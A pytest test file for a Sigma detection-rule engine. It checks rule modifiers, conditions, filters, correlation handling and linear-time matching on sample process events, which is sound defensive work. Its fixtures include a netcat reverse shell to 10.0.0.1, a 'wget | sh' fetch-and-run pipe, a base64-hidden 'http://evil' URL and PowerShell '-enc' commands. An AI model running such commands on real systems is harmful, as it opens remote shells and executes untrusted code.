"""Sigma rules (our own, written in SigmaHQ's format) evaluated on our events: every modifier
and condition form with an event that matches and one that does not, Windows and Linux,
arguments that are not UTF-8, and what `sigma check` reports."""

from __future__ import annotations

import copy
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from collector.sigma.rules import Glob, RuleSet, load
from common import bench, qlog
from tests.conftest import run_cli, seed_qlog_example
from tests.sigma_rules import rule_id, rule_yaml


def linux(executable: str, args: list, parent: str = "/usr/bin/bash", **process) -> dict:
    event = copy.deepcopy(bench.varied_events(1)[0])
    event["process"].update(executable=executable, args=args, **process)
    event["process"].pop("command_line", None)
    event["process"]["parent"]["executable"] = parent
    return event


def windows(command_line: str, image: str = "C:\\Windows\\System32\\cmd.exe") -> dict:
    event = qlog.read_event(json.loads(seed_qlog_example()))
    event["process"].update(executable=image, command_line=command_line)
    return event


def rule(tmp_path, name: str, detection: str, product: str = "linux") -> str:
    path = tmp_path / f"{name}.yml"
    path.write_text(rule_yaml(name, detection, product=product,
                              tags=("attack.execution", "attack.t1059.004")))
    return str(path)


def one(tmp_path, name: str, detection: str, product: str = "linux"):
    loaded = load([rule(tmp_path, name, detection, product)])
    assert not loaded.problems, loaded.problems
    [compiled] = loaded.rules
    rules = RuleSet([compiled])

    def matches(event: dict) -> bool:
        # The rule alone, and through a rule set (which checks its literal first): the same.
        alone = compiled.matches(event)
        assert rules.match(event) == ([compiled] if alone else [])
        return alone
    return matches


CASES = [
    ("plain", "    sel:\n        Image: /usr/bin/CURL\n    condition: sel",
     linux("/usr/bin/curl", ["curl"]), linux("/usr/bin/curly", ["curly"])),
    ("contains", "    sel:\n        CommandLine|contains: ' -o /tmp/'\n    condition: sel",
     linux("/usr/bin/curl", ["curl", "-o", "/tmp/x"]), linux("/usr/bin/curl", ["curl", "-O"])),
    ("startswith", "    sel:\n        Image|startswith: /tmp/\n    condition: sel",
     linux("/tmp/x", ["x"]), linux("/usr/tmp/x", ["x"])),
    ("endswith", "    sel:\n        ParentImage|endswith: /python3\n    condition: sel",
     linux("/bin/sh", ["sh"], parent="/usr/bin/python3"), linux("/bin/sh", ["sh"])),
    ("all", "    sel:\n        CommandLine|contains|all:\n            - wget\n            - '| sh'\n"
            "    condition: sel",
     linux("/bin/sh", ["sh", "-c", "wget -qO- x | sh"]), linux("/bin/sh", ["sh", "-c", "wget x"])),
    ("re", "    sel:\n        CommandLine|re: 'nc(at)? .*-e '\n    condition: sel",
     linux("/bin/nc", ["nc", "10.0.0.1", "-e", "/bin/sh"]), linux("/bin/nc", ["nc", "-l"])),
    ("cidr", "    sel:\n        CommandLine|cidr: 10.0.0.0/8\n    condition: sel",
     linux("/bin/x", ["10.1.2.3"], command_line="10.1.2.3"),
     linux("/bin/x", ["11.1.2.3"], command_line="11.1.2.3")),
    ("base64offset", "    sel:\n        CommandLine|base64offset|contains: 'http://'\n"
                     "    condition: sel",
     linux("/bin/sh", ["sh", "-c", "echo aHR0cDovL2V2aWw= | base64 -d"]),
     linux("/bin/sh", ["sh", "-c", "echo aGVsbG8= | base64 -d"])),
    ("one_of", "    sel_a:\n        Image|endswith: /curl\n    sel_b:\n        Image|endswith: /wget\n"
               "    condition: 1 of sel_*",
     linux("/usr/bin/wget", ["wget"]), linux("/usr/bin/tar", ["tar"])),
    ("all_of", "    sel_a:\n        Image|endswith: /curl\n    sel_b:\n"
               "        CommandLine|contains: insecure\n    condition: all of sel_*",
     linux("/usr/bin/curl", ["curl", "--insecure"]), linux("/usr/bin/curl", ["curl"])),
    ("not", "    sel:\n        Image|endswith: /sudo\n    filter:\n        User: root\n"
            "    condition: sel and not filter",
     linux("/usr/bin/sudo", ["sudo"], user={"id": "1000", "name": "alice"}),
     linux("/usr/bin/sudo", ["sudo"], user={"id": "0", "name": "root"})),
    ("non_utf8", "    sel:\n        CommandLine|contains: '%FF%FE'\n    condition: sel",
     linux("/bin/x", ["x", b"\xff\xferaw"]), linux("/bin/x", ["x", "raw"])),
]


@pytest.mark.parametrize("name, detection, hit, miss", CASES, ids=[c[0] for c in CASES])
def test_each_modifier_and_condition_on_linux(tmp_path, name, detection, hit, miss) -> None:
    matches = one(tmp_path, name, detection)
    assert matches(hit) and not matches(miss)


def test_windash_and_windows_fields(tmp_path) -> None:
    matches = one(tmp_path, "windash", "    sel:\n        Image|endswith: '\\powershell.exe'\n"
                  "        CommandLine|windash|contains: ' -enc '\n"
                  "        IntegrityLevel: Medium\n    condition: sel", product="windows")
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    assert matches(windows("powershell /enc AAAA", ps))         # the slash form too
    assert matches(windows("powershell -enc AAAA", ps))
    assert not matches(windows("powershell -nop", ps))
    assert not matches(windows("cmd /enc AAAA"))                 # another image
    user = one(tmp_path, "user", "    sel:\n        User|endswith: '\\TestUser'\n"
               "        Hashes|contains: 'IMPHASH=CA88689695B1E2B1E2A85FC73742E524'\n"
               "    condition: sel", product="windows")
    assert user(qlog.read_event(json.loads(seed_qlog_example())))


def test_what_cannot_be_evaluated_is_reported_and_the_rest_loads(tmp_path) -> None:
    good = rule(tmp_path, "good", "    sel:\n        Image|endswith: /curl\n    condition: sel")
    field = rule(tmp_path, "field", "    sel:\n        ImageLoaded|endswith: .dll\n"
                                    "    condition: sel")
    broken = tmp_path / "broken.yml"
    broken.write_text("title: broken\ndetection: [unclosed\n")
    other = tmp_path / "other.yml"
    other.write_text("title: dns\nlogsource:\n    category: dns_query\n    product: windows\n"
                     "detection:\n    sel:\n        QueryName: x\n    condition: sel\n")
    loaded = load([str(tmp_path)])
    assert [r.path for r in loaded.rules] == [good]
    assert loaded.skipped == 1
    why = {p.path: p.why for p in loaded.problems}
    assert "ImageLoaded" in why[field] and str(broken) in why
    result = run_cli("sigma", "check", str(tmp_path))
    assert result.returncode == 1
    assert "1 rules to evaluate, 1 for other log sources, 2 problems" in result.stderr
    assert "ImageLoaded" in result.stdout and "broken.yml" in result.stdout
    assert run_cli("sigma", "check", good).returncode == 0


def _glob_reference(pattern: str) -> "re.Pattern[str]":
    return re.compile("".join(".*" if c == "*" else "." if c == "?" else re.escape(c)
                              for c in pattern), re.DOTALL)


@settings(max_examples=3000, deadline=None)
@given(st.text(alphabet="ab*?", max_size=8), st.text(alphabet="abc", max_size=12),
       st.booleans())
def test_wildcards_match_as_a_regular_expression_would(pattern, text, cased) -> None:
    """The linear-time wildcard matcher against Python's `re` (fine on such short text)."""
    from sigma.types import SigmaCasedString, SigmaString
    value = (SigmaCasedString if cased else SigmaString)(pattern)
    glob = Glob(list(value.s), cased)
    assert glob.matches(text) == (_glob_reference(pattern).fullmatch(text) is not None)


def test_hostile_command_lines_cost_linear_time(tmp_path) -> None:
    """Wildcards and regular expressions that backtrack for minutes in Python's `re` on 8 KB
    of "ab" (tried: `*a*b*c*`, two minutes) are evaluated on 400 KB without a stall; a test
    that regresses runs into the suite's timeout, not a timed assertion."""
    loaded = load([rule(tmp_path, "globs", "    sel:\n        CommandLine: '*a*b*c*'\n"
                        "    condition: sel"),
                   rule(tmp_path, "regex", "    sel:\n        CommandLine|re: 'a.*b.*c'\n"
                        "    condition: sel")])
    assert not loaded.problems
    rules = RuleSet(loaded.rules)
    hostile = linux("/bin/sh", ["sh", "ab" * 200_000])
    assert rules.match(hostile) == []
    hostile["process"]["args"].append("c")
    assert [r.title for r in rules.match(hostile)] == ["globs", "regex"]


def test_a_regular_expression_re2_cannot_run_in_linear_time_is_reported(tmp_path) -> None:
    """A backreference (pySigma itself checks rules' patterns with RE2 once it is installed;
    our compile says so too, should a pySigma check them with `re`)."""
    path = rule(tmp_path, "backref", "    sel:\n        CommandLine|re: '(a+)\\1'\n"
                "    condition: sel")
    loaded = load([path])
    assert loaded.rules == [] and "(a+)\\1" in loaded.problems[0].why


REGEX_PIECES = ["a", "b", "c", "ab", ".", ".*", "a?", "b+", "(ab|c)", "[ab]", "[]a]", "c{0,2}",
                "a{2}", "b{1,}", "\\.", "\\d", "(?:a|bc)?", "\\|", "^", "$"]


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(REGEX_PIECES), min_size=1, max_size=6),
       st.text(alphabet="abc.1|]", max_size=14), st.booleans())
def test_a_regular_expressions_required_literal_is_in_every_match(pieces, text,
                                                                  alternation) -> None:
    """What the rule set checks before running a regular expression never rejects an event
    the expression matches (Python's `re` as the reference, on short text)."""
    from collector.sigma.rules import required_literal
    pattern = "".join(pieces) + ("|c" if alternation else "")
    if re.search(pattern, text):
        assert required_literal(pattern) in text


def _filter_yaml(title: str, names: str, condition: str) -> str:
    return (f"title: {title}\nid: {rule_id(title)}\nlogsource:\n    category: process_creation\n"
            f"    product: linux\nfilter:\n    rules:\n{names}    admin:\n"
            f"        User: admin\n    condition: {condition}\n")


def _correlation_yaml(title: str, base: str, generate: bool) -> str:
    return (f"title: {title}\nid: {rule_id(title)}\nstatus: test\ncorrelation:\n"
            f"    type: event_count\n    rules:\n        - {rule_id(base)}\n"
            f"    generate: {'true' if generate else 'false'}\n    group-by:\n        - User\n"
            "    timespan: 1h\n    condition:\n        gte: 10\n")


def test_a_filter_in_its_own_file_applies_to_the_rule_it_names(tmp_path) -> None:
    """SigmaHQ keeps filters apart from the rules they tune: read across files, applied."""
    curl = rule(tmp_path, "curl", "    sel:\n        Image|endswith: /curl\n    condition: sel")
    rule(tmp_path, "wget", "    sel:\n        Image|endswith: /wget\n    condition: sel")
    (tmp_path / "not-admin.yml").write_text(_filter_yaml(
        "not admin", f"        - {rule_id('curl')}\n", "not admin"))
    loaded = load([str(tmp_path)])
    assert not loaded.problems, loaded.problems
    rules = RuleSet(loaded.rules)
    by_admin = linux("/usr/bin/curl", ["curl"], user={"id": "0", "name": "admin"})
    by_other = linux("/usr/bin/curl", ["curl"], user={"id": "1000", "name": "alice"})
    assert [r.path for r in rules.match(by_other)] == [curl]
    assert rules.match(by_admin) == []                    # the filter holds for curl ...
    wget = linux("/usr/bin/wget", ["wget"], user={"id": "0", "name": "admin"})
    assert [r.title for r in rules.match(wget)] == ["wget"]  # ... and for no other rule


def test_a_filter_that_names_no_rule_loaded_is_reported(tmp_path) -> None:
    rule(tmp_path, "curl", "    sel:\n        Image|endswith: /curl\n    condition: sel")
    (tmp_path / "stray.yml").write_text(_filter_yaml(
        "stray", f"        - {rule_id('elsewhere')}\n", "not admin"))
    loaded = load([str(tmp_path)])
    assert [r.title for r in loaded.rules] == ["curl"]
    [problem] = loaded.problems
    assert problem.path.endswith("stray.yml") and rule_id("elsewhere") in problem.why


@pytest.mark.parametrize("generate", [False, True])
def test_correlation_rules_are_reported_not_evaluated_and_their_parts_follow_generate(
        tmp_path, generate: bool) -> None:
    """A correlation counts or orders several events, and each event is matched alone: it is
    told, never a crash. The rule it names is evaluated alone only when it says
    ``generate: true`` (Sigma's default keeps such a rule a part of the correlation)."""
    base = rule(tmp_path, "whoami", "    sel:\n        Image|endswith: /whoami\n"
                "    condition: sel")
    with open(base, "a") as f:
        f.write("---\n" + _correlation_yaml("many whoami", "whoami", generate))
    loaded = load([base])
    why = {p.rule: p.why for p in loaded.problems}
    assert "correlation rule" in why[rule_id("many whoami")]
    if generate:
        assert [r.title for r in loaded.rules] == ["whoami"] and len(why) == 1
    else:
        assert loaded.rules == [] and rule_id("many whoami") in why[rule_id("whoami")]
    result = run_cli("sigma", "check", base)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert f"{len(loaded.rules)} rules to evaluate" in result.stderr
